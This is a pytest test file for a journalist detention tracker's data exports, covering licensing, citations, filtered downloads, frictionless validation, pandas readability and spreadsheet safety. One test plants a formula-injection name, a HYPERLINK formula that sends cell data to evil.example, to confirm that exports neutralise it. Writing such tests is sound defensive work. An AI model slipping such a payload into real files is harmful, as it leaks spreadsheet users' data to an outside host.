"""
Data a newsroom can cite and reuse, from the site: the licence and citation,
filtered downloads from the search page, spreadsheet-safe files, the data
package (validated by frictionless) and every file read by pandas.
"""

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from django.core.management import call_command
from django.urls import reverse

from cases import models
from cases.dates import FuzzyDate
from cases.downloads import NAMES
from cases.tests import factories
from cases.tests.pages_cases import full_case

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def body(response):
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content) if response.streaming else response.content


def about(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content))["About"]
    return {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}


@pytest.fixture
def cases(db):
    shown = full_case(arrest=FuzzyDate.day(2023, 11, 20))
    full_case(country="TR", arrest=FuzzyDate.month(2022, 5))
    factories.DetentionFactory(publication_state=models.PublicationState.DRAFT, country="AZ")
    return shown


# Licence and citation.


def test_the_data_page_gives_the_licence_and_a_citation_pinned_to_the_release(client, cases):
    html = client.get(reverse("cases:data")).content.decode()
    release = models.Release.objects.latest_release()

    assert 'href="https://creativecommons.org/licenses/by/4.0/" rel="license"' in html
    assert f"release {release.number}" in html and "/data/?as_known_on=" in html
    assert reverse("cases:detentions_xlsx") in html


def test_the_methodology_states_the_licence(client):
    html = client.get(reverse("cases:methodology")).content.decode()

    assert "Creative Commons Attribution 4.0 International" in html and "CC-BY-4.0" in html


def test_another_licence_is_a_setting(client, cases, settings):
    settings.DATA_LICENSE = "CC0-1.0"

    package = client.get(reverse("cases:datapackage")).json()

    assert package["licenses"][0]["name"] == "CC0-1.0"
    assert "CC0-1.0" in client.get(reverse("cases:data")).content.decode()


def test_the_data_package_names_licence_sources_release_and_time(client, cases):
    release = models.Release.objects.latest_release()

    package = client.get(reverse("cases:datapackage")).json()

    assert package["licenses"] == [
        {
            "name": "CC-BY-4.0",
            "title": "Creative Commons Attribution 4.0 International",
            "path": "https://creativecommons.org/licenses/by/4.0/",
        }
    ]
    assert package["sources"][0]["path"] == "http://testserver/"
    assert package["version"] == str(release.number)
    assert package["created"].startswith(release.published_at.strftime("%Y-%m-%dT%H:%M:%S"))
    assert f"release {release.number}" in package["citation"]


def test_frictionless_validates_the_data_package_with_its_resources(client, cases, tmp_path):
    package = client.get(reverse("cases:datapackage")).json()
    for resource in package["resources"]:
        address = resource["path"].removeprefix("http://testserver")
        name = Path(address.split("?")[0]).name
        (tmp_path / name).write_bytes(body(client.get(address)))
        resource["path"] = name
    (tmp_path / "datapackage.json").write_text(json.dumps(package))

    checked = subprocess.run(  # noqa: S603 (a fixed command on files this test wrote)
        [str(Path(sys.executable).parent / "frictionless"), "validate", "--json", "datapackage.json"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
    )

    report = json.loads(checked.stdout)
    assert report["valid"], json.dumps(report["tasks"], indent=1)[:3000]
    assert len(report["tasks"]) == 3
    assert all(task["stats"]["rows"] == 2 for task in report["tasks"])


# Filtered downloads from the search page.


def test_the_search_page_links_downloads_of_exactly_its_rows(client, cases):
    html = client.get(reverse("cases:detentions"), {"country": "AZ", "page": "1"}).content.decode()

    links = re.findall(r'href="(/data/detentions\.(?:csv|xlsx|json)[^"]*)"', html)
    assert links == [
        "/data/detentions.csv?country=AZ",
        "/data/detentions.xlsx?country=AZ",
        "/data/detentions.json?country=AZ",
    ]
    rows = list(csv.DictReader(io.StringIO(body(client.get(links[0])).decode("utf-8-sig"))))
    assert [row["id"] for row in rows] == [str(cases.pk)]
    assert [row["id"] for row in json.loads(body(client.get(links[2])))] == [cases.pk]
    sheet = openpyxl.load_workbook(io.BytesIO(body(client.get(links[1]))))["Detentions"]
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [cases.pk]


def test_a_name_search_downloads_the_rows_it_lists(client, cases):
    name = cases.journalist.name
    page = client.get(reverse("cases:detentions"), {"q": name})
    listed = [detention.pk for detention in page.context["detentions"]]

    rows = json.loads(body(client.get(reverse("cases:detentions_json"), {"q": name})))

    assert [row["id"] for row in rows] == listed == [cases.pk]


def test_a_filtered_file_is_named_after_its_filters_and_release_and_links_its_permalink(client, cases):
    release = models.Release.objects.latest_release().number

    response = client.get(reverse("cases:detentions_csv"), {"country": "AZ", "kind": "criminal"})

    assert response["Content-Disposition"] == (
        f'attachment; filename="detentions_country-AZ_kind-criminal_release-{release}.csv"'
    )
    link = re.fullmatch(r'<(.+)>; rel="canonical"', response["Link"]).group(1)
    assert link.startswith("http://127.0.0.1:8000/data/detentions.csv?country=AZ&kind=criminal&as_known_on=")
    full = client.get(reverse("cases:detentions_xlsx"))
    assert full["Content-Disposition"] == f'attachment; filename="detentions_release-{release}.xlsx"'
    assert about(body(full))["citation"].startswith("Journalist detention tracker, journalist detentions, release")


def test_a_bad_filter_of_a_download_is_a_400_saying_which(client, cases):
    response = client.get(reverse("cases:detentions_csv"), {"arrested_from": "2023-13-45", "colour": "red"})

    assert response.status_code == 400
    text = response.content.decode()
    assert "arrested_from" in text and "colour: unknown parameter" in text


def test_a_pinned_download_gives_the_rows_of_its_release(client, cases):
    link = re.fullmatch(r"<(.+)>; .*", client.get(reverse("cases:detentions_csv"))["Link"]).group(1)
    full_case(country="RU")

    pinned = body(client.get(link.removeprefix("http://127.0.0.1:8000"))).decode("utf-8-sig")

    assert len(list(csv.DictReader(io.StringIO(pinned)))) == 2


def test_downloads_answer_conditional_requests(client, cases):
    first = client.get(reverse("cases:detentions_xlsx"), {"country": "AZ"})
    etag = first["ETag"]

    again = client.get(reverse("cases:detentions_xlsx"), {"country": "AZ"}, headers={"if-none-match": etag})
    other = client.get(reverse("cases:detentions_xlsx"), {"country": "TR"}, headers={"if-none-match": etag})

    assert again.status_code == 304 and other.status_code == 200


# Spreadsheet-safe files.


def test_the_spreadsheet_csv_has_a_byte_order_mark_and_the_api_csv_none(client, cases):
    assert body(client.get(reverse("cases:detentions_csv"))).startswith("\ufeff".encode())
    assert body(client.get("/api/v1/detentions/", {"format": "csv"})).startswith(b"id,")


def test_a_name_beginning_with_equals_imported_from_cpj_never_runs_as_a_formula(client, tmp_path, editor):
    sample = (Path(__file__).parent / "data" / "cpj-export-sample.csv").read_text(encoding="utf-8")
    header, first, *_rest = sample.splitlines()
    # A cell of CPJ's file, quoted as CSV: =HYPERLINK("http://evil.example/?"&A1;"Arin")
    hostile = first.replace("Arin Example", '"=HYPERLINK(""http://evil.example/?""&A1;""Arin"")"', 1)
    path = tmp_path / "cpj.csv"
    path.write_text(f"{header}\n{hostile}\n", encoding="utf-8")
    call_command("import_cpj", str(path), "--publish", "--by", "editor", stdout=io.StringIO())
    name = models.Journalist.objects.get().name
    assert name.startswith("=HYPERLINK")

    rows = list(csv.DictReader(io.StringIO(body(client.get(reverse("cases:detentions_csv"))).decode("utf-8-sig"))))
    api_rows = list(csv.DictReader(io.StringIO(body(client.get("/api/v1/journalists/", {"format": "csv"})).decode())))
    workbook = openpyxl.load_workbook(io.BytesIO(body(client.get(reverse("cases:detentions_xlsx")))))

    assert rows[0]["journalist_name"] == "'" + name
    assert api_rows[0]["name"] == "'" + name
    sheet = workbook["Detentions"]
    cell = sheet.cell(2, NAMES.index("journalist_name") + 1)
    assert cell.value == "'" + name and cell.data_type == "s"
    assert not any(cell.data_type == "f" for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row)
    # JSON is not a spreadsheet: the name stays as it is.
    assert json.loads(body(client.get(reverse("cases:detentions_json"))))[0]["journalist_name"] == name


@pytest.mark.parametrize("start", ["+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_csv_and_xlsx(client, start):
    factories.DetentionFactory(summary=f"{start}1+2 summary")

    row = next(csv.DictReader(io.StringIO(body(client.get(reverse("cases:detentions_csv"))).decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(body(client.get(reverse("cases:detentions_xlsx")))))["Detentions"]

    assert row["summary"] == f"'{start}1+2 summary"
    # XML reads a carriage return back as a line feed; the apostrophe comes first either way.
    assert sheet.cell(2, NAMES.index("summary") + 1).value == f"'{start}1+2 summary".replace("\r", "\n")


# pandas reads every CSV and XLSX address with the right types and row counts.

INTEGER = "int64"


def _frame(client, address, **params):
    content = body(client.get(address, params))
    if params.get("format") == "xlsx" or address.endswith(".xlsx"):
        return pd.read_excel(io.BytesIO(content), sheet_name=0)
    return pd.read_csv(io.BytesIO(content), keep_default_na=False)


def test_pandas_reads_every_detention_file_with_dates_and_numbers(client, cases):
    for address, params in [
        (reverse("cases:detentions_csv"), {}),
        (reverse("cases:detentions_xlsx"), {}),
        ("/api/v1/detentions/", {"format": "csv"}),
        ("/api/v1/detentions/", {"format": "xlsx"}),
    ]:
        frame = _frame(client, address, **params)
        assert list(frame.columns) == NAMES, address
        assert len(frame) == 2, address
        assert str(frame["id"].dtype) == INTEGER, address
        if address.endswith(".xlsx") or params.get("format") == "xlsx":
            assert pd.api.types.is_datetime64_any_dtype(frame["arrested_latest"]), address
            assert pd.api.types.is_datetime64_any_dtype(frame["updated_at"]), address
        else:
            parsed = pd.to_datetime(frame["arrested_latest"], format="%Y-%m-%d")
            assert parsed.notna().all(), address


@pytest.mark.parametrize("path", ["journalists", "outlets", "statutes", "releases", "censuses"])
def test_pandas_reads_every_other_list_as_csv_and_xlsx(client, cases, path):
    models.Census.objects.create(
        slug="1-december-2023",
        title="1 December 2023",
        day="2023-12-01",
        release=models.Release.objects.latest_release(),
    )
    count = client.get(f"/api/v1/{path}/").json()["count"]

    for fmt in ("csv", "xlsx"):
        frame = _frame(client, f"/api/v1/{path}/", format=fmt)
        assert len(frame) == count, (path, fmt)
    if path == "statutes":
        assert str(frame["detentions"].dtype) == INTEGER
    if path == "releases":
        assert str(frame["number"].dtype) == INTEGER
        assert pd.api.types.is_datetime64_any_dtype(frame["published_at"])


def test_pandas_reads_counts_and_censuses_as_csv_and_xlsx(client, cases):
    models.Census.objects.create(
        slug="1-december-2023",
        title="1 December 2023",
        day="2023-12-01",
        release=models.Release.objects.latest_release(),
    )
    for fmt in ("csv", "xlsx"):
        plain = _frame(client, "/api/v1/counts/", format=fmt)
        grouped = _frame(client, "/api/v1/counts/", format=fmt, group_by="year")
        census = _frame(client, "/api/v1/censuses/1-december-2023/", format=fmt)
        assert len(plain) == 1 and str(plain["count"].dtype) == INTEGER and plain["count"][0] == 2, fmt
        assert list(grouped["year"]) == [2022, 2023] and str(grouped["count"].dtype) == INTEGER, fmt
        assert str(grouped["release"].dtype) == INTEGER, fmt
        assert len(census) == 2 and str(census["counted_now"].dtype) == "bool", fmt
    page_csv = _frame(client, reverse("cases:census_csv", args=["1-december-2023"]))
    page_xlsx = _frame(client, reverse("cases:census_xlsx", args=["1-december-2023"]))
    assert list(page_csv.columns)[0] == "census"  # the byte order mark is not part of the name
    assert len(page_csv) == len(page_xlsx) == 2
    assert str(page_xlsx["counted_at_release"].dtype) == "bool"
    assert pd.api.types.is_datetime64_any_dtype(page_xlsx["day"])


def test_pandas_reads_a_filtered_download_with_its_rows(client, cases):
    for address in (reverse("cases:detentions_csv"), reverse("cases:detentions_xlsx")):
        frame = _frame(client, address, country="TR")
        assert len(frame) == 1 and frame["country"][0] == "TR", address
        assert list(frame.columns) == NAMES, address


def test_the_census_page_links_its_downloads_with_a_byte_order_mark(client, cases):
    models.Census.objects.create(
        slug="1-december-2023",
        title="1 December 2023",
        day="2023-12-01",
        release=models.Release.objects.latest_release(),
    )
    html = client.get(reverse("cases:census", args=["1-december-2023"])).content.decode()
    response = client.get(reverse("cases:census_csv", args=["1-december-2023"]))

    assert reverse("cases:census_csv", args=["1-december-2023"]) in html
    assert reverse("cases:census_xlsx", args=["1-december-2023"]) in html
    assert body(response).startswith("\ufeffcensus,day,".encode())
    assert 'rel="canonical"' in response["Link"]


def test_a_pinned_census_page_links_pinned_downloads(client, cases):
    release = models.Release.objects.latest_release()
    models.Census.objects.create(slug="1-december-2023", title="1 December 2023", day="2023-12-01", release=release)
    moment = release.published_at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    full_case(arrest=FuzzyDate.day(2023, 1, 5), status="pretrial")  # documented since

    html = client.get(reverse("cases:census", args=["1-december-2023"]), {"as_known_on": moment}).content.decode()
    link = re.search(r'href="(/censuses/1-december-2023\.csv[^"]*)"', html).group(1).replace("&amp;", "&")
    pinned = list(csv.DictReader(io.StringIO(body(client.get(link)).decode("utf-8-sig"))))
    now = list(csv.DictReader(io.StringIO(body(client.get("/censuses/1-december-2023.csv")).decode("utf-8-sig"))))

    assert "as_known_on=" in link
    assert [row["change"] for row in pinned] == ["", ""]
    assert sorted(row["change"] for row in now) == ["", "", "documented_since"]
